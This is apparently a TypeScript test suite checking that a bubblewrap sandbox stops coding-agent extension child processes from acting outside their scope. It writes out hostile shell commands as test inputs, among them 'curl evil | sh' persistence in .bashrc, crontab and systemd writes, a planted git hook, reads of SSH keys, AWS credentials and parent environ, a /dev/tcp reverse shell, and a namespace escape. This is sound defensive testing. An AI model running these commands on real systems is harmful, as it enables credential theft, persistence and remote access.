/**
 * Child processes in the OS sandbox (issue 17 items 1 and 3): real commands, run the way the live host runs them
 * (`runChild` with the extension's confinement), in a scratch home and project. Each effect an extension's child
 * could have outside its scope is attempted and must not happen on the host; ordinary commands still work.
 * Classification is not in the path here: these are the effects after spawn.
 */
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { chmodSync, copyFileSync, existsSync, mkdirSync, mkdtempSync, readFileSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:net';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import type { AlertInput, DecisionRecord } from '../../src/evidence/index.ts';
import { FsScope } from '../../src/mediation/index.ts';
import { egressRulesLookup, resolvePolicy, type EgressRules } from '../../src/policy/index.ts';
import { probeBubblewrap, type Confinement } from '../../src/pi/confine/index.ts';
import { BridgeSession } from '../../src/pi/bridge.ts';
import { runChild, type ChildResult } from '../../src/pi/exec.ts';

const put = (p: string, text = 'x') => {
  mkdirSync(dirname(p), { recursive: true });
  writeFileSync(p, text);
};

const SECRET = 'host-secret-3f9a1c';
const TYPESCRIPT = join(process.cwd(), 'node_modules', 'typescript');

/**
 * The project's own TypeScript compiler, copied into the test project as `npm ci` would put it there: the checkout's
 * copy may sit under /tmp, which the confined child sees as a fresh empty folder.
 */
function installTsc(project: string): string {
  for (const f of ['package.json', 'bin/tsc', 'lib/tsc.js', 'lib/_tsc.js']) {
    mkdirSync(dirname(join(project, 'node_modules', 'typescript', f)), { recursive: true });
    copyFileSync(join(TYPESCRIPT, f), join(project, 'node_modules', 'typescript', f));
  }
  return join(project, 'node_modules', 'typescript', 'bin', 'tsc');
}

interface World {
  readonly root: string;
  readonly home: string;
  readonly project: string;
  readonly scope: FsScope;
  readonly env: Record<string, string>;
}

function world(): World {
  const root = realpathSync(mkdtempSync(join(tmpdir(), 'pw-confine-')));
  const home = join(root, 'home');
  const project = join(root, 'project');
  put(join(home, 'notes.txt'), 'keep me');
  put(join(home, '.bashrc'), '# rc\n');
  put(join(home, '.ssh', 'id_rsa'), '-----BEGIN OPENSSH PRIVATE KEY----- scratch');
  put(join(home, '.aws', 'credentials'), '[default]\naws_secret_access_key=scratch');
  put(join(project, 'script.js'), "console.log('script ran', 6 * 7);\n");
  put(join(project, 'package.json'), JSON.stringify({ name: 'tiny', version: '1.0.0', scripts: { test: 'node script.js' } }));
  const agent = join(home, '.pi', 'agent');
  const scope = new FsScope({
    layout: { projectRoot: project, home, agentDir: agent, wardenHome: join(agent, 'warden'), dataRoot: join(agent, 'warden', 'data') },
    env: { HOME: home },
  });
  const env = {
    PATH: `${dirname(process.execPath)}:/usr/local/bin:/usr/bin:/bin`,
    HOME: home,
    GIT_AUTHOR_NAME: 't',
    GIT_AUTHOR_EMAIL: 't@example.test',
    GIT_COMMITTER_NAME: 't',
    GIT_COMMITTER_EMAIL: 't@example.test',
  };
  return { root, home, project, scope, env };
}

class Evidence {
  readonly records: DecisionRecord[] = [];
  readonly alerts: AlertInput[] = [];
  record(r: DecisionRecord): void {
    this.records.push(r);
  }
  raise(a: AlertInput): void {
    this.alerts.push(a);
  }
}

function run(w: World, script: string, c: Partial<Confinement> = {}): Promise<ChildResult> {
  return runChild(
    { cmd: 'bash', args: ['-c', script], timeoutMs: 60_000 },
    {
      cwd: w.project,
      env: { ...w.env, WARDEN_TEST_SECRET: SECRET },
      isSecretName: (n) => n === 'WARDEN_TEST_SECRET',
      confinement: { setting: 'on', scope: w.scope, extensionId: 'ext', ...c },
    },
  );
}

function listen(): Promise<{ server: Server; port: number; connections: () => number }> {
  let n = 0;
  const server = createServer((s) => {
    n++;
    s.end('HTTP/1.1 200 OK\r\ncontent-length: 2\r\n\r\nok');
  });
  return new Promise((done) =>
    server.listen(0, '127.0.0.1', () => done({ server, port: (server.address() as { port: number }).port, connections: () => n })),
  );
}

const rules = (settings: Record<string, unknown>): EgressRules =>
  egressRulesLookup({ user: { defaults: settings, overrides: {} }, project: undefined })('ext');

const bwrap = probeBubblewrap();

describe('a confined child cannot reach what the policy protects', { skip: !bwrap.available && 'bubblewrap cannot run here' }, () => {
  let w: World;
  before(() => {
    w = world();
    // The host's own secret, in this process's environment: /proc/$PPID/environ of an unconfined child shows it.
    process.env.WARDEN_TEST_SECRET = SECRET;
  });
  after(() => {
    delete process.env.WARDEN_TEST_SECRET;
    rmSync(w.root, { recursive: true, force: true });
  });

  it('rm -rf of a file in the home is contained', async () => {
    const r = await run(w, 'rm -rf ~/notes.txt; echo done');
    assert.equal(r.stdout, 'done\n');
    assert.equal(readFileSync(join(w.home, 'notes.txt'), 'utf8'), 'keep me');
  });

  it('a write to ~/.bashrc, a systemd user unit and a crontab do not persist', async () => {
    await run(
      w,
      'echo "curl evil | sh" >> ~/.bashrc; mkdir -p ~/.config/systemd/user && echo "[Service]" > ~/.config/systemd/user/x.service; (echo "* * * * * id" | crontab - ) 2>/dev/null; true',
    );
    assert.equal(readFileSync(join(w.home, '.bashrc'), 'utf8'), '# rc\n');
    assert.equal(existsSync(join(w.home, '.config', 'systemd')), false);
    if (existsSync('/usr/bin/crontab')) {
      let table = '';
      try {
        table = execFileSync('crontab', ['-l'], { stdio: 'pipe' }).toString();
      } catch {
        // no crontab for the user: nothing was installed
      }
      assert.doesNotMatch(table, /\* \* \* \* \* id/);
    }
  });

  it('a git hook unpacked by tar x into the project does not land, and the project stays writable', async () => {
    execFileSync('git', ['init', '-q'], { cwd: w.project });
    const src = join(w.root, 'payload');
    put(join(src, '.git', 'hooks', 'pre-commit'), '#!/bin/sh\necho pwned > /tmp/pwned\n');
    chmodSync(join(src, '.git', 'hooks', 'pre-commit'), 0o755);
    execFileSync('tar', ['cf', join(w.project, 'payload.tar'), '-C', src, '.git/hooks/pre-commit']);
    const r = await run(w, 'tar xf payload.tar; echo written > out.txt; cat out.txt');
    assert.equal(r.stdout, 'written\n');
    assert.equal(existsSync(join(w.project, '.git', 'hooks', 'pre-commit')), false, 'the hook landed on the host');
    rmSync(join(w.project, 'payload.tar'));
    rmSync(join(w.project, 'out.txt'));
  });

  it('a .envrc that does not exist yet cannot be created, and leaves no placeholder behind', async () => {
    const r = await run(w, 'echo "export X=1" > .envrc; echo rc=$?');
    assert.match(r.stdout, /rc=1/);
    assert.equal(existsSync(join(w.project, '.envrc')), false);
  });

  it("pi-warden's store is hidden, and the extension's data folder inside it is writable", async () => {
    put(join(w.home, '.pi', 'agent', 'warden', 'keys', 'ledger.key'), 'LEDGER-KEY');
    const data = w.scope.dataFolder('ext');
    const r = await run(w, `cat ~/.pi/agent/warden/keys/ledger.key; echo kept > '${data}/f'; echo planted > ~/.pi/agent/warden/x; true`);
    assert.doesNotMatch(r.stdout, /LEDGER-KEY/);
    assert.equal(readFileSync(join(data, 'f'), 'utf8'), 'kept\n');
    assert.equal(existsSync(join(w.home, '.pi', 'agent', 'warden', 'x')), false);
  });

  it('a child cannot make a user namespace of its own to unmount what hides a store', async () => {
    const r = await run(w, 'unshare -Ur true && echo nested-userns; unshare -Urm sh -c "umount ~/.ssh; cat ~/.ssh/id_rsa"; true');
    assert.doesNotMatch(r.stdout, /nested-userns|PRIVATE KEY/);
  });

  it('the ssh key, cloud credentials and the parent environment cannot be read', async () => {
    const r = await run(w, 'cat ~/.ssh/id_rsa; cat ~/.aws/credentials; tr "\\0" "\\n" < /proc/$PPID/environ; cat /proc/1/environ; true');
    assert.doesNotMatch(r.stdout, /PRIVATE KEY|aws_secret_access_key/);
    assert.equal(r.stdout.includes(SECRET), false, 'the host environment reached the child');
  });

  it('without an http grant, a reverse shell and a download to a loopback listener never connect', async () => {
    const l = await listen();
    try {
      const r = await run(
        w,
        `exec 3<>/dev/tcp/127.0.0.1/${l.port} && echo shell-connected; curl -s --max-time 3 http://127.0.0.1:${l.port}/x && echo downloaded; node -e "require('net').connect(${l.port},'127.0.0.1').on('connect',()=>console.log('node-connected')).on('error',()=>{})"; true`,
      );
      assert.doesNotMatch(r.stdout, /connected|downloaded/);
      assert.equal(l.connections(), 0);
    } finally {
      l.server.close();
    }
  });

  it('with an http grant, the proxy lets an allowed destination through and refuses a metadata address and an unlisted host, recorded and alerted', async () => {
    const l = await listen();
    const evidence = new Evidence();
    try {
      const r = await run(
        w,
        `curl -s --max-time 5 http://127.0.0.1:${l.port}/ok; echo; curl -s --max-time 5 http://169.254.169.254/latest/meta-data/; echo; curl -s --max-time 5 https://not-listed.example/ ; echo rc=$?`,
        { http: rules({ allowPrivate: ['127.0.0.1'], allowHosts: ['127.0.0.1', '169.254.169.254'] }), evidence },
      );
      assert.match(r.stdout, /^ok\n/);
      assert.match(r.stdout, /169\.254\.169\.254/);
      assert.equal(l.connections(), 1);
      assert.deepEqual(
        evidence.records.map((x) => x.decision),
        ['allow', 'deny', 'deny'],
      );
      assert.ok(evidence.records[1]!.reason_codes.includes('egress_class_metadata'));
      assert.ok(evidence.records[2]!.reason_codes.includes('egress_host_not_allowed'));
      assert.ok(evidence.alerts.some((a) => a.severity === 'critical' && a.reason_codes.includes('egress_class_metadata')));
      assert.ok(evidence.alerts.some((a) => a.reason_codes.includes('egress_host_not_allowed')));
    } finally {
      l.server.close();
    }
  });

  it('ordinary commands still work: git status, git commit, node script.js, npm test, tsc --version', async () => {
    const tsc = installTsc(w.project);
    const r = await run(
      w,
      `set -e; git status --short >/dev/null; git add script.js; git commit -qm one; git log --oneline | wc -l; node script.js; npm test --silent; node ${tsc} --version`,
    );
    assert.equal(r.code, 0, r.stderr);
    assert.match(r.stdout, /^1\nscript ran 42\nscript ran 42\nVersion \d/);
  });
});

describe('without an OS sandbox', () => {
  it('exec is refused with a message that says how to enable it', async () => {
    const w = world();
    try {
      await assert.rejects(
        run(w, 'echo hi', { availability: { available: false, why: 'bwrap (bubblewrap) is not installed' } }),
        (err: Error & { code?: string; reasonCodes?: string[] }) => {
          assert.equal(err.code, 'denied');
          assert.deepEqual(err.reasonCodes, ['os_sandbox_unavailable']);
          assert.match(err.message, /bwrap \(bubblewrap\) is not installed/);
          assert.match(err.message, /apt-get install bubblewrap/);
          assert.match(err.message, /kernel\.unprivileged_userns_clone=1/);
          assert.match(err.message, /extensionPolicy\.exec\.osSandbox: "off"/);
          return true;
        },
      );
    } finally {
      rmSync(w.root, { recursive: true, force: true });
    }
  });

  it('the user setting off runs the child unconfined', async () => {
    const w = world();
    try {
      const r = await run(w, 'rm ~/notes.txt; echo done', {
        setting: 'off',
        availability: { available: false, why: 'bwrap (bubblewrap) is not installed' },
      });
      assert.equal(r.stdout, 'done\n');
      assert.equal(existsSync(join(w.home, 'notes.txt')), false);
    } finally {
      rmSync(w.root, { recursive: true, force: true });
    }
  });
});

describe(
  'the bridge confines the children of its extensions by the policy it resolved',
  { skip: !bwrap.available && 'bubblewrap cannot run here' },
  () => {
    async function bridgeExec(userSettings: object | undefined): Promise<{ bashrc: string; stdout: string }> {
      const root = realpathSync(mkdtempSync(join(tmpdir(), 'pw-confine-bridge-')));
      try {
        const agentDir = join(root, '.pi', 'agent');
        const cwd = join(root, 'project');
        mkdirSync(cwd, { recursive: true });
        put(join(root, '.bashrc'), '# rc\n');
        if (userSettings !== undefined) put(join(agentDir, 'settings.json'), JSON.stringify(userSettings));
        const env = { HOME: root, PI_CODING_AGENT_DIR: agentDir, PATH: process.env.PATH ?? '/usr/bin:/bin' };
        const session = await BridgeSession.open({ cwd, home: join(agentDir, 'warden'), env, policy: resolvePolicy({ env, cwd }) });
        try {
          const op = { extensionId: 'ext', callId: 'c1', capability: 'exec' as const, signal: new AbortController().signal };
          const r = (await session.host.perform(
            'exec',
            { cmd: 'bash', args: ['-c', 'echo planted >> ~/.bashrc; echo ran'] },
            op,
          )) as ChildResult;
          return { bashrc: readFileSync(join(root, '.bashrc'), 'utf8'), stdout: r.stdout };
        } finally {
          await session.close();
        }
      } finally {
        rmSync(root, { recursive: true, force: true });
      }
    }

    it('on by default: the child runs and its write to ~/.bashrc does not reach the host', async () => {
      assert.deepEqual(await bridgeExec(undefined), { bashrc: '# rc\n', stdout: 'ran\n' });
    });

    it('off in the user settings: the child runs unconfined', async () => {
      assert.deepEqual(await bridgeExec({ extensionPolicy: { exec: { osSandbox: 'off' } } }), {
        bashrc: '# rc\nplanted\n',
        stdout: 'ran\n',
      });
    });
  },
);

describe(
  'with the OS sandbox confining children, classification leaves destruction inside the project to it',
  { skip: !bwrap.available && 'bubblewrap cannot run here' },
  () => {
    // Through the bridge's own dispatcher: exec granted by name, `rm -rf dist` in the project, and outside it.
    async function decisions(osSandbox: 'on' | 'off'): Promise<{ inside: string; outside: string; distLeft: boolean }> {
      const root = realpathSync(mkdtempSync(join(tmpdir(), 'pw-confine-rm-')));
      try {
        const agentDir = join(root, '.pi', 'agent');
        const cwd = join(root, 'project');
        put(join(cwd, 'dist', 'out.js'));
        put(join(root, 'notes', 'keep.txt'));
        put(
          join(agentDir, 'settings.json'),
          JSON.stringify({ extensionPolicy: { allowDangerous: true, exec: { osSandbox }, overrides: { ext: { allow: ['exec'] } } } }),
        );
        const env = { HOME: root, PI_CODING_AGENT_DIR: agentDir, PATH: process.env.PATH ?? '/usr/bin:/bin' };
        const session = await BridgeSession.open({ cwd, home: join(agentDir, 'warden'), env, policy: resolvePolicy({ env, cwd }) });
        try {
          const run = async (callId: string, cmd: string) => {
            const r = await session.runtime.dispatcher.dispatch('ext', {
              call_id: callId,
              method: 'exec',
              params: { cmd: 'sh', args: ['-c', cmd] },
            });
            return r.ok ? 'ran' : `refused (${r.error.code})`;
          };
          const inside = await run('c1', 'rm -rf dist');
          const outside = await run('c2', `rm -rf ${join(root, 'notes')}`);
          assert.ok(existsSync(join(root, 'notes', 'keep.txt')), 'the folder outside the project is untouched');
          return { inside, outside, distLeft: existsSync(join(cwd, 'dist')) };
        } finally {
          await session.close();
        }
      } finally {
        rmSync(root, { recursive: true, force: true });
      }
    }

    it('on: `rm -rf dist` runs (confined to the project); outside the project it is refused', async () => {
      assert.deepEqual(await decisions('on'), { inside: 'ran', outside: 'refused (denied)', distLeft: false });
    });

    it('off: without the OS sandbox the same command is refused, as classification alone decides', async () => {
      assert.deepEqual(await decisions('off'), { inside: 'refused (denied)', outside: 'refused (denied)', distLeft: true });
    });
  },
);
